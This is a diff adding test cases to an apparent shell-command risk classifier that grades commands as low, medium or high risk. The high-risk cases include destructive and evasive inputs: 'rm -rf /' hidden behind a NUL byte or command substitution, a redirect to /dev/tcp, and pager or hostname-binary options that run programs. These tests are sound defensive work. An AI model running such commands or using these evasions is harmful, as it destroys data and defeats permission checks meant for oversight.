@@ -72,6 +72,20 @@ describe('low: every stage reads', () => {
     ['uniq -c input.txt', 'low', true, 'uniq only reads'],
     ['ls # a comment', 'low', true, 'ls only reads'],
     ['ls\n', 'low', true, 'ls only reads'],
+    ['git log -- --output=x', 'low', true, 'git log only reads'],
+    ['rg -- --pre foo', 'low', true, 'rg only reads'],
+    ['ls | xargs', 'low', true, 'echo only reads'],
+    ['stdbuf -oL grep x f', 'low', true, 'grep only reads'],
+    ['git config --get user.name', 'low', true, 'git config only reads'],
+    ['git stash list', 'low', true, 'git stash only reads'],
+    ['git tag -l "v*"', 'low', true, 'git tag only reads'],
+    ['git remote -v', 'low', true, 'git remote only reads'],
+    ['cd /etc; cat passwd', 'low', true, 'cat only reads'],
+    ['(ls; pwd)', 'low', true, 'pwd only reads'],
+    ['{ ls; pwd; }', 'low', true, 'pwd only reads'],
+    ['echo hi >&2', 'low', true, 'echo only reads'],
+    ['ls &>/dev/null', 'low', true, 'ls only reads'],
+    ["echo '$(id)' \\$HOME", 'low', true, 'echo only reads'],
   ]);
 });
 
@@ -102,6 +116,9 @@ describe('medium: project commands and writes inside the roots', () => {
     ['git branch feature', 'medium', false, 'git branch changes the repository'],
     ['git stash', 'medium', false, 'git stash changes the repository'],
     ['./gradlew test', 'medium', false, 'is a project command'],
+    [': > out.txt', 'medium', false, 'redirect writes'],
+    ['> out.txt', 'medium', false, 'redirect writes'],
+    ['cd src && rm -rf dist', 'high', false, 'only low commands may be chained'],
     ['timeout 600 npm test', 'medium', false, 'npm test is a project command'],
   ]);
 });
@@ -254,5 +271,21 @@ describe('high: bad input', () => {
     ['', 'high', false, 'empty command'],
     ['time ls', 'low', true, 'ls only reads'],
     ['ls | bash', 'high', false, 'bash runs'],
+    ['ls\0rm -rf /', 'high', false, 'NUL byte'],
+    ['ls &&', 'high', false, 'a word is missing'],
+    ['echo "$(ls', 'high', false, 'the parser could not fully read it'],
+    ['exec 3<>/etc/x', 'high', false, 'the parser could not fully read it'],
+    ['ls !(x)', 'high', false, 'the parser could not fully read it'],
+    ['ag --pager=sh x', 'high', false, 'ag --pager'],
+    ['rg --hostname-bin=./x --hyperlink-format=default foo', 'high', false, 'rg --hostname-bin'],
+    ['ls > /dev/tcp/1.2.3.4/80', 'high', false, 'outside the roots'],
+    ['X=$(rm -rf /)', 'high', false, 'command substitution $(…)'],
+    ['echo ${x:-$(id)}', 'high', false, 'command substitution $(…)'],
+    ['cat <<< $(id)', 'high', false, 'command substitution $(…)'],
+    ['"" ls', 'high', false, 'empty command name'],
+    ['$\'rm\' -rf x', 'high', false, 'only known when it runs'],
+    ['git worktree add /tmp/x', 'high', false, 'not a subcommand this check knows'],
+    ['command -pv ls', 'high', false, 'an option this check does not know'],
+    ['exec -a name ls', 'high', false, 'an option this check does not know'],
   ]);
 });
